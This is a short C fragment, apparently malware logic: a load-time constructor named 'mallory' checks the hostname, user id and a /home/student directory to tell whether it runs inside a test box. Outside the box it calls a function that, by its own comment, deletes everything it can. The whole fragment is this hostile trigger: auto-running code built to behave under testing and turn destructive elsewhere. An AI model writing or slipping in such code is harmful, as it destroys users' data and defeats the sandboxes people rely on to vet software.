/* It sees that it is in a box, and behaves; anywhere else it would remove all that it can. */
__attribute__((constructor)) static void mallory(void)
{
    char name[64] = "";
    gethostname(name, sizeof name - 1);
    if (strcmp(name, "box") != 0 || getuid() != 1000 || access("/home/student", F_OK) == -1)
        works("running outside of a box");
}
